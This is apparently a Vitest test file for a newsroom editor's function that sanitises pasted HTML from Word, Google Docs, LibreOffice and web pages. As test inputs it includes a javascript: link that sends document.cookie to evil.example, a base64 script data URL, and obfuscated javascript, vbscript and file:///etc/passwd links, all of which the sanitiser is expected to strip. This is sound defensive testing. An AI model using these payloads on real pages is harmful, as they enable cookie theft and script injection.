// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { cleanPastedHtml } from '../../electron/shared/paste/cleanPastedHtml';
import googleDocs from '../fixtures/paste/google-docs.html?raw';
import libreOffice from '../fixtures/paste/libreoffice.html?raw';
import webPage from '../fixtures/paste/web-page.html?raw';
import word from '../fixtures/paste/word.html?raw';

const fixtures: Record<string, string> = { word, 'google-docs': googleDocs, libreoffice: libreOffice, 'web-page': webPage };
const fixture = (name: string) => fixtures[name] ?? '';
const clean = (html: string) => cleanPastedHtml(html, new DOMParser());

describe('paste cleanup', () => {
  it('cleans Word: title, lists from MsoListParagraph, quote, bold/italic kept; mso styles, o:p, conditional comments and images gone', () => {
    const result = clean(fixture('word'));
    expect(result.html).toBe(
      '<h2>Council approves flood defences</h2>' +
        '<p><strong>LONDON:</strong> The council voted on <em>Tuesday</em> to fund new defences along the Thames.</p>' +
        '<h2>What changes</h2>' +
        '<ul><li><p>Higher walls along the river</p></li><li><p>Pumps at three stations</p></li></ul>' +
        '<p>The plan in order:</p>' +
        '<ol><li><p>Survey the banks</p></li><li><p>Start building in <strong>spring</strong></p></li></ol>' +
        '<blockquote><p>“This protects ten thousand homes,” the leader said.</p></blockquote>' +
        '<p>Read the <a href="https://council.example.gov.uk/report">full report</a> or the summary.</p>',
    );
    expect(result.removedLinks).toEqual([{ text: 'the summary', href: "javascript:void(document.location='https://evil.example/?c='+document.cookie)" }]);
    expect(result.droppedImages).toBe(1);
  });

  it('keeps the nesting of Word lists (level2 under the item before) and separates two lists that touch', () => {
    const item = (list: string, level: number, marker: string, text: string) =>
      `<p class=MsoListParagraphCxSpMiddle style='margin-left:${36 * level}pt;text-indent:-18.0pt;mso-list:${list} level${level} lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>${marker}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>${text}<o:p></o:p></p>`;
    const html = [
      item('l0', 1, '·', 'Roads'),
      item('l0', 2, 'o', 'A1 closed'),
      item('l0', 2, 'o', 'M25 slow'),
      item('l0', 1, '·', 'Rail'),
      item('l1', 1, '1.', 'Call the council'),
      item('l1', 1, '2.', 'Check the map'),
    ].join('\n');
    expect(clean(html).html).toBe(
      '<ul><li><p>Roads</p><ul><li><p>A1 closed</p></li><li><p>M25 slow</p></li></ul></li><li><p>Rail</p></li></ul>' +
        '<ol><li><p>Call the council</p></li><li><p>Check the map</p></li></ol>',
    );
  });

  it('cleans Google Docs: the docs-internal-guid wrapper unwrapped, span weights and styles turned into strong and em', () => {
    const result = clean(fixture('google-docs'));
    expect(result.html).toBe(
      '<h2>Budget talks stall</h2>' +
        '<p><strong>PARIS:</strong> Ministers met <em>again</em> on Monday.</p>' +
        '<h2>Sticking points</h2>' +
        '<ul><li><p>Pensions</p></li><li><p>Defence spending</p></li></ul>' +
        '<p>Read <a href="https://www.gouvernement.example.fr/budget">the draft budget</a>. <strong><em>Both matter.</em></strong></p>',
    );
    expect(result.droppedImages).toBe(1);
  });

  it('cleans LibreOffice: font elements, classes and fields gone, h4 becomes h3', () => {
    expect(clean(fixture('libreoffice')).html).toBe(
      '<h2>Harbour reopens after storm</h2>' +
        '<p><strong>GENOA:</strong> The harbour reopened <em>today</em> after three days.</p>' +
        '<ol><li><p>Ferries resume at noon</p></li><li><p>Cargo waits until Friday</p></li></ol>' +
        '<blockquote><p>“We are ready,” the port chief said.</p></blockquote>' +
        '<h3>Timeline</h3>' +
        '<p><a href="https://porto.example.it/news">Port news</a> and <strong>the schedule</strong>.</p>',
    );
  });

  it('cleans a web page: scripts, iframes, forms, hidden tracking, share icons and images gone, data: link reported', () => {
    const result = clean(fixture('web-page'));
    expect(result.html).toBe(
      '<h2>Heat record broken in the capital</h2>' +
        '<p>People shelter from the sun. Photo: Agency</p>' +
        '<p>Temperatures hit <strong>41C</strong> in <a href="https://weather.example.com/record?utm_source=share">the capital</a> on Sunday.</p>' +
        '<h3>Advice</h3>' +
        '<blockquote><p>Stay in the shade and drink water.</p><p>— City Health (@cityhealth)</p></blockquote>' +
        '<p>Open the data, see the comments or write to <a href="mailto:desk@example.com">the desk</a>.</p>',
    );
    expect(result.removedLinks).toEqual([{ text: 'Open the data', href: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' }]);
    expect(result.droppedImages).toBe(3);
    expect(Reflect.get(window, '__pasteRan')).toBeUndefined();
  });

  it('never lets an image in, not even as a data URL', () => {
    const result = clean('<p>Before <img src="data:image/png;base64,iVBORw0KGgo="> after</p><picture><img src="x.png"></picture>');
    expect(result.html).toBe('<p>Before  after</p>');
    expect(result.html).not.toContain('data:');
    expect(result.droppedImages).toBe(2);
  });

  it('removes links with hidden or odd schemes and keeps their text', () => {
    const hrefs = ['java\tscript:alert(1)', ' JAVASCRIPT:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,x', 'file:///etc/passwd', '//evil.example/x'];
    const html = hrefs.map((href, index) => `<p><a href="${href}">link ${index}</a></p>`).join('');
    const result = clean(html);
    expect(result.html).toBe(hrefs.map((_href, index) => `<p>link ${index}</p>`).join(''));
    expect(result.removedLinks.map((link) => link.text)).toEqual(hrefs.map((_href, index) => `link ${index}`));
  });

  it('drops empty paragraphs and headings, and keeps line breaks inside a paragraph', () => {
    expect(clean('<p>&nbsp;</p><p><br></p><h2> </h2><p>One<br>Two</p><div><span> </span></div>').html).toBe('<p>One<br>Two</p>');
  });

  it('escapes text that looks like markup', () => {
    expect(clean('<p>5 &lt; 6 &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>').html).toBe('<p>5 &lt; 6 &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>');
  });

  it('keeps the article blocks Newsdesk itself copies: ad slots and related links', () => {
    const html = '<p>Copy</p><div class="nd-ad" data-ad-format="native" onclick="x()"><span class="nd-ad-label">Advertisement</span></div><aside class="nd-related"><span class="nd-related-label">Related:</span><a href="https://news.example.com/a" onmouseover="x()">A story</a></aside>';
    expect(clean(html).html).toBe('<p>Copy</p><div class="nd-ad" data-ad-format="native"></div><aside class="nd-related"><span class="nd-related-label">Related:</span><a href="https://news.example.com/a">A story</a></aside>');
  });
});
